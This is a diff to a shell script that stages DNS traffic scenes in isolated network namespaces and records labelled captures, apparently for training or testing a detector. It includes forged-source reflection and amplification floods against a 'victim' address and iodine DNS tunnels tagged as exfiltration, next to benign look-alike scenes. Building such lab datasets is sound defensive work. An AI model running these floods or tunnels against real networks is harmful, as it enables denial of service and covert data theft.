@@ -42,21 +42,21 @@ join attacker 10.53.1.1 10.53.1.2
 join clients 10.53.2.1 10.53.2.2
 ip -n "$space-servers" route add default via 10.53.2.2
 run servers sysctl -qw net.ipv4.conf.all.rp_filter=0 net.ipv4.ip_forward=1
-for last in $(seq 53 64); do ip -n "$space-servers" addr add "192.0.2.$last/32" dev lo; done
+for last in $(seq 53 65); do ip -n "$space-servers" addr add "192.0.2.$last/32" dev lo; done
 for address in 198.51.100.{1..30} 198.51.100.99 203.0.113.{1..8}; do ip -n "$space-clients" addr add "$address/32" dev lo; done
 # Offloading would let tcpdump see segments larger than the link carries.
 for place in "servers to-attacker" "servers to-clients" "attacker eth0" "clients eth0"; do
   command -v ethtool > /dev/null && run ${place% *} ethtool -K "${place#* }" tso off gso off gro off > /dev/null 2>&1 || true
 done
 
-# A zone with what reflectors are asked for: an ANY answer of some 5 kB, DNSKEY of 1 kB, TXT of 2 kB; and 400 ordinary hosts.
+# A zone with what reflectors are asked for: DNSKEY of 1 kB, TXT of 1.5 kB; and 400 ordinary hosts.
 python3 - > "$work/zone" <<'END'
 import base64, random
 rng = random.Random(1)
 text = lambda n: ''.join(rng.choice('abcdefghijklmnopqrstuvwxyz0123456789') for _ in range(n))
 key = lambda n: base64.b64encode(b'\x03\x01\x00\x01' + rng.randbytes(n)).decode()
 print('$ORIGIN example.org.\n$TTL 300\n@ SOA ns1 hostmaster 2026112201 7200 900 1209600 60\n@ NS ns1\nns1 A 192.0.2.53\n@ MX 10 mail\nmail A 192.0.2.25')
-print('@ TXT ' + ' '.join(f'"{text(250)}"' for _ in range(8)))
+print('@ TXT ' + ' '.join(f'"{text(250)}"' for _ in range(6)))
 for flags in 257, 256, 256:
     print(f'@ DNSKEY {flags} 3 8 {key(260)}')
 for i in range(400):
@@ -163,13 +163,13 @@ honest() { # RATE SECONDS: what resolvers ask a name server, each from its own a
 }
 
 # --- our server as reflector -------------------------------------------------
-if wanted reflector-any-20; then
-  record reflector-any-20 servers any
+if wanted reflector-txt-20; then
+  record reflector-txt-20 servers any
   honest 5 9
-  forge 192.0.2.53 20 8 ANY example.org 0 198.51.100.99
+  forge 192.0.2.53 20 8 TXT example.org 0 198.51.100.99
   wait "${helpers[@]}"
-  finish 'NSD answers 20 forged ANY questions a second for eight seconds, in fragments, among six honest resolvers.' \
-    "$(event 'reflector, 20/s, ANY' amplification '{"server":"192.0.2.53","victim":"198.51.100.99"}')"
+  finish 'NSD answers 20 forged TXT questions a second for eight seconds, in fragments, among six honest resolvers.' \
+    "$(event 'reflector, 20/s, TXT' amplification '{"server":"192.0.2.53","victim":"198.51.100.99"}')"
 fi
 if wanted reflector-dnskey-50; then
   record reflector-dnskey-50 servers any
@@ -179,17 +179,17 @@ if wanted reflector-dnskey-50; then
 fi
 if wanted reflector-txt-500; then
   record reflector-txt-500 servers any
-  forge 192.0.2.53 500 3 TXT example.org 80 198.51.100.99
-  finish 'NSD answers 500 forged TXT questions a second for three seconds, to port 80 of the victim.' \
+  forge 192.0.2.53 500 1.2 TXT example.org 80 198.51.100.99
+  finish 'NSD answers 500 forged TXT questions a second for a good second, to port 80 of the victim.' \
     "$(event 'reflector, 500/s, TXT' amplification '{"server":"192.0.2.53","victim":"198.51.100.99"}')"
 fi
 # --- the victim's side: its own questions are in the capture, the forged ones are not ----------
 if wanted victim-20; then
   record victim-20 clients eth0
   honest 4 8
-  forge 192.0.2.54,192.0.2.55 20 7 ANY example.org 0 198.51.100.99
+  forge 192.0.2.54,192.0.2.55 20 7 TXT example.org 0 198.51.100.99
   wait "${helpers[@]}"
-  finish 'A host gets 20 ANY answers a second from two servers it never asked; six others ask and are answered.' \
+  finish 'A host gets 20 TXT answers a second from two servers it never asked; six others ask and are answered.' \
     "$(event 'victim, 20/s, two servers' amplification '{"victim":"198.51.100.99"}')"
 fi
 if wanted victim-50; then
@@ -210,8 +210,9 @@ fi
 if wanted open-resolver; then
   record open-resolver servers to-clients
   for i in $(seq 12); do
-    ip -n "$space-clients" addr add "$((20 + i * 7)).$((i * 11)).5.9/32" dev lo
-    for zone in org net com; do run clients dig +time=1 +tries=1 -b "$((20 + i * 7)).$((i * 11)).5.9" @192.0.2.64 "host$i.example.$zone" A > /dev/null || true; done
+    # Of the reserved block: documentation has but three networks.
+    ip -n "$space-clients" addr add "240.$i.5.9/32" dev lo
+    for zone in org net com; do run clients dig +time=1 +tries=1 -b "240.$i.5.9" @192.0.2.64 "host$i.example.$zone" A > /dev/null || true; done
   done
   finish 'unbound looks names of three zones up for single hosts of twelve unrelated networks.' \
     "$(event 'open resolver' open-resolver '{"server":"192.0.2.64"}')"
@@ -234,6 +235,11 @@ fi
 ask_all() { # FILE RATE SECONDS SERVER ADDRESS [CLIENTS]: dnsperf without EDNS size limits of its own
   run clients dnsperf -s "$4" -a "$5" -d "$1" -Q "$2" -l "$3" -c "${6:-1}" -D > /dev/null 2>&1
 }
+if wanted twin-any-minimal; then
+  record twin-any-minimal servers any
+  forge 192.0.2.53 20 8 ANY example.org 0 198.51.100.99
+  finish 'Forged ANY questions, 20 a second, that NSD answers with one record each (RFC 8482): somebody tries, nothing is amplified.' benign
+fi
 if wanted twin-nat-crowd; then
   awk 'BEGIN { srand(7); for (i = 0; i < 900; i++) print "host" int(200 * rand() * rand()) ".example.org " (i % 3 ? "A" : i % 2 ? "AAAA" : "TXT") }' > "$work/crowd"
   record twin-nat-crowd servers any
@@ -251,12 +257,12 @@ fi
 if wanted twin-mail-burst; then
   awk 'BEGIN { srand(9); for (i = 0; i < 200; i++) { h = "host" 4 * int(100 * rand()) ".example.org"; print h " TXT\ns1._domainkey." h " TXT\n_dmarc." h " TXT\n" h " MX\n" h " A" } }' > "$work/mail"
   record twin-mail-burst servers any
-  ask_all "$work/mail" 80 8 192.0.2.64 198.51.100.4
-  finish 'A mail host looks up SPF, DKIM, DMARC, MX and addresses of a hundred senders, 80 questions a second, through unbound.' benign
+  ask_all "$work/mail" 40 8 192.0.2.64 198.51.100.4
+  finish 'A mail host looks up SPF, DKIM, DMARC, MX and addresses of a hundred senders, 40 questions a second, through unbound.' benign
 fi
 if wanted twin-refresh; then
   awk 'BEGIN { for (i = 0; i < 50; i++) print "short.example.org TXT\nexample.org DNSKEY\nexample.org TXT" }' > "$work/refresh"
-  record twin-refresh servers any
+  record twin-refresh servers lo
   ask_all "$work/refresh" 15 9 192.0.2.64 198.51.100.5
   finish 'unbound fetches large TXT and DNSKEY records, over TCP where they are truncated, and again when their TTL of two seconds has run out.' benign
 fi
@@ -271,11 +277,13 @@ fi
 for type in NULL TXT SRV MX CNAME A; do
   scene=tunnel-iodine-${type,,}
   wanted "$scene" || continue
-  start servers iodined -f -c -P secret -l 127.0.0.1 -p 5300 -d dns0 10.99.0.1/27 t.example.org > "$work/iodined.log" 2>&1; server=$started
+  # Answers to A are CNAMEs that no resolver can follow: there iodine asks its server itself.
+  if [ "$type" = A ]; then at=192.0.2.65 port=53 asked=192.0.2.65; else at=127.0.0.1 port=5300 asked=192.0.2.64; fi
+  start servers iodined -f -c -P secret -l $at -p $port -d dns0 10.99.0.1/27 t.example.org > "$work/iodined.log" 2>&1; server=$started
   sleep 0.7
   record "$scene" clients eth0
-  start clients iodine -f -r -P secret -T "$type" -d dns0 192.0.2.64 t.example.org > "$work/iodine.log" 2>&1; client=$started
-  for _ in $(seq 150); do grep -q 'Connection setup complete' "$work/iodine.log" && break; sleep 0.1; done
+  start clients iodine -f -r -P secret -T "$type" -d dns0 $asked t.example.org > "$work/iodine.log" 2>&1; client=$started
+  for _ in $(seq 300); do grep -q 'Connection setup complete' "$work/iodine.log" && break; sleep 0.1; done
   # 2.6 kB that do not compress go up, and come back.
   start servers python3 "$here/forge.py" echo 10.99.0.1; echo=$started
   sleep 0.3
@@ -283,9 +291,10 @@ for type in NULL TXT SRV MX CNAME A; do
   sleep 0.5
   kill "$echo" 2>/dev/null || true
   kill "$client" 2>/dev/null || true
-  finish "iodine through unbound, $type records: the handshake and twelve datagrams of 220 bytes, echoed." \
+  finish "iodine, $type records: the handshake and twelve datagrams of 220 bytes, echoed." \
     "$(event "iodine $type" exfiltration '{"client":"10.53.2.2","domain":"example.org"}')"
   kill "$server" 2>/dev/null || true
+  grep -q 'Connection setup complete' "$work/iodine.log" || { echo "$scene: iodine did not connect" >&2; cat "$work/iodine.log" >&2; }
   sleep 0.3
 done
 ls -l "$folder" >&2
